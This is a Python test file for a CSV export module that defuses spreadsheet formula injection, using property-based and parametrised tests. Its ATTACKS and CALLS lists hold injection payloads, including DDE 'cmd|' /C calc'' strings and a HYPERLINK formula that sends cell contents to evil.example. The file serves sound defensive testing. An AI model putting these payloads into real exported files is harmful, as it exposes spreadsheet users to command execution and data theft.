"""What leaves as CSV runs nowhere, and is what it was when our own import reads it."""

import csv
import io
import unicodedata

import orjson
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from relance.core.csv_cells import BOM, make_harmless, make_json_harmless, restore, write_lines
from relance.imports.columns.table import open_table
from tests.support.spreadsheets import begins_a_formula, list_cells

PHONE = "+2290197000001"
PARTS = [
    *"=+-@\t\r\n,;|\"' aé1e*./(",
    *("\u200b", "\ufeff", "\xa0", "\xad", "\ufe0f", "\u3164", "\u2028", "\x85", "\x7f"),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207c", "\u2212", "\uff1b", "\uff0c"),
    *(
        "=1+1",
        ":",
        "~",
        "!",
        "x(",
        "@",
        "\xa0=",
        ":-5",
        "{",
        '":-5,"',
        "cmd|' /C calc'!A0",
        "'=",
        "';=",
        "\\",
        "{{",
        "1e5",
    ),
]
TEXTS = st.lists(st.sampled_from(PARTS), max_size=8).map("".join) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12
)
ATTACKS = [
    "=1+1",
    "Awa;=1+1;x",
    "Awa\t=1+1\tx",
    "Awa,=1+1,x",
    "\uff1d1+1",
    "\u200b=1+1",
    "\ufeff \xa0\u3164=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1&A2,"Click")',
    '";=1+1;"',
    '"=1+1',
    '"";=1+1',
    "';=1+1",
    ';"";"=1+1',
    "\t=1+1",
    "\r=1+1",
    "a\n=1+1",
    "a\r\n=1+1\r\n",
    "a\x0b=1+1",
    "a\u2028=1+1",
    "\uff1b\uff1d1+1",
    "%0A=1+1\n%0D=1",
    "=\x00",
    "|=1+1",
    "1+cmd|' /C calc'!A0;x",
    "5e3*cmd|' /C calc'!A0\tx",
    " \u200b12 %+cmd|' /C calc'!A0;x",
    "\uff11\uff0bcmd|' /C calc'!A0;x",
    "*cmd|' /C calc'!A0;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_reader_finds_a_formula_of_an_attack(attack: str) -> None:
    json = make_json_harmless(orjson.dumps({"a": attack, attack: 1, "b": -1}).decode())
    file = BOM + write_lines(
        [
            ("phone", "first_name", "attributes"),
            (PHONE, attack, json),
            (PHONE, "Awa", attack),
            ("17", attack),
        ],
        phone_first=True,
    )
    assert [cell for cell in list_cells(file) if begins_a_formula(cell)] == []
    assert restore(make_harmless(attack)) == attack
    assert orjson.loads(json) == {"a": attack, attack: 1, "b": -1}


@pytest.mark.parametrize("attack", [text for text in ATTACKS if text[0] != "%"])
def test_the_judge_of_these_tests_sees_what_stands_there_bare(attack: str) -> None:
    """Otherwise it might call everything harmless."""
    line = ",".join((PHONE, '"' + attack.replace('"', '""') + '"', "x")).encode()
    bare = ",".join((PHONE, attack, "x")).encode()
    found = [cell for file in (line, bare) for cell in list_cells(file) if begins_a_formula(cell)]
    assert found


@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=4))
@example([("1+1;", "", "")])
@example([("\u2028|", "", "")])
@example([("1\t1=", "", "")])
def test_no_reader_finds_a_formula_of_any_texts(lines: list[tuple[str, str, str]]) -> None:
    file = BOM + write_lines([(PHONE, *line) for line in lines], phone_first=True)
    file += write_lines((str(number), *line) for number, line in enumerate(lines))
    assert [cell for cell in list_cells(file) if begins_a_formula(cell)] == []


TYPED = " !#$%&().:/<>?^_`~*{}[]\\\xa0\xa7\xb7\u2022\u2026\uff1a"
CALLS = (
    "=1+1",
    "= 1",
    "=cmd|'/C_calc'!A0",
    "-2+cmd|'/C_calc'!A0",
    "+SUM(1)",
    "@SUM(1)",
    "\uff1dSUM(1)",
    "'=1",
    '"=1"',
)


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize("before", ["a", "", "a:-5 ", "(a) - ", "'"])
def test_no_separator_that_somebody_types_makes_a_formula(before: str, call: str) -> None:
    for separator in TYPED:
        if separator in " \xa0" and call == "= 1":
            continue  # "x = 1": the cell is "=" alone
        for text in (f"{before}{separator}{call}", f"{before}{separator}{call}{separator}x"):
            written = make_harmless(text)
            assert restore(written) == text
            json = make_json_harmless(orjson.dumps({"a": text, text: -5}).decode())
            assert orjson.loads(json) == {"a": text, text: -5}
            assert make_harmless(json) == json
            cells = written.split(separator) + json.split(separator)
            assert [cell for cell in cells if does_harm(cell)] == []


def does_harm(cell: str) -> bool:
    """An equation, or anything else that calls something."""
    begins = unicodedata.normalize("NFKC", cell.lstrip("\xa0 '\""))
    calls = (begins[:1] == "=" and begins.strip() != "=") or any(sign in begins for sign in "(|!")
    return calls and begins_a_formula(cell)


def test_no_text_takes_long() -> None:
    """A number of steps that grows with the text: a hundred thousand characters are done in no time."""
    units = (":-", ": ", " -", ":-1", "' ", ":-(")
    for text in (*(unit * 50_000 for unit in units), "(:" + "'" * 100_000, ":-" + "1" * 100_000):
        assert restore(make_harmless(f"{text}a(")) == f"{text}a("
    # A sign, without which nothing is looked for, and blanks that may each be a separator.
    for text in (unit * 50_000 for unit in (" ", "\xa0", " '", "\xa0' ", " \"'", " \u200b")):
        for whole in (f"-{text}", f"x{text}-", f"x{text}-a("):
            assert restore(make_harmless(whole)) == whole


@given(TEXTS)
@example("#'--!=1")  # an apostrophe put behind "!" is no call that was not there
@example("(' -a !\uff0b1")
def test_what_was_made_harmless_is_restored(text: str) -> None:
    assert restore(make_harmless(text)) == text
    assert restore(make_harmless(make_harmless(text))) == make_harmless(text)


@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=6))
def test_our_import_reads_the_cells_that_were_written(lines: list[tuple[str, str]]) -> None:
    file = BOM + write_lines([("phone", "a", "b"), *((PHONE, *line) for line in lines)], phone_first=True)
    with open_table(file) as table:
        assert [(line.cells, line.problem) for line in table.lines] == [
            ([PHONE, *line], None) for line in lines
        ]


@given(st.dictionaries(TEXTS, TEXTS | st.integers(-9, 9) | st.booleans(), max_size=5))
def test_json_means_the_same_and_nobody_finds_a_formula_in_it(values: dict[str, object]) -> None:
    text = make_json_harmless(orjson.dumps(values).decode())
    assert orjson.loads(text) == values
    assert restore(make_harmless(text)) == text == make_harmless(text)
    assert [cell for cell in list_cells(write_lines([("x", text)])) if begins_a_formula(cell)] == []


@pytest.mark.parametrize(
    "cell",
    ["Awa", "Jean-Pierre", "N'Diaye", "l'été; l'hiver", "a, b", "x=1", "a@b.bj", "2026-11-22T10:00:00+00:00",
     "10:30-12:00", "x = y", "Awa (Cotonou) - Kossi", "merci :-) !", "https://x.org/@awa?a=b",
     "a: -5", "3 - 2",
     "Kossi +22997000001", "Super! - merci !", "le 5/-", "A.-M. Kossi",
     "a\n\nb", "'quoted'", '"quoted"', "1-2", "", '{"a":-5,"b-c":"d=e"}', "3 Amis"],
)  # fmt: skip
def test_what_nobody_takes_for_a_formula_is_written_as_it_is(cell: str) -> None:
    written = write_lines([(PHONE, "Awa", cell)], phone_first=True).decode()
    assert next(csv.reader(io.StringIO(written, newline=""))) == [PHONE, "Awa", cell]


def test_a_phone_is_a_text_only_where_it_would_be_calculated_with() -> None:
    calculated = ("1*2;", "\uff11+A1", "*Awa*", "1e5-cmd|x", " .5%", "1-2")
    plain = ("", "Awa", "3 Amis", "(Awa)", "Éa", "\U0001f338 Awa", "=1", "-1", "e5 Awa", "5", "d'Or")
    for names, written in ((calculated, f"'{PHONE}"), (plain, PHONE)):
        lines = write_lines([(PHONE, name) for name in names], phone_first=True).decode().splitlines()
        assert [line.split(",")[0] for line in lines] == [written] * len(names)
    others = write_lines([("+x", ""), ("", "1*2")], phone_first=True).decode().splitlines()
    assert others == ["'+x,", ",1*2"]


def test_every_sign_and_separator_of_unicode_is_known() -> None:
    for character in map(chr, (*range(1, 0xD800), *range(0xE000, 0x110000))):
        plain = unicodedata.normalize("NFKC", character)
        if plain[0] in "=+-@\u2212":
            assert make_harmless(character) == f"'{character}", hex(ord(character))
        if plain[0] in ",;|" or plain[-1] in ",;|":
            assert make_harmless(f"{character}=") == f"{character}'=", hex(ord(character))
        # "Cn": what this Python does not know yet.
        if unicodedata.category(character) in ("Zs", "Zl", "Zp", "Cc", "Cf") and character not in "\r\n\t":
            assert make_harmless(f"{character}=")[-2:] in ("'=", f"{character}="), hex(ord(character))
            assert make_harmless(f"{character}=") != f"{character}=", hex(ord(character))
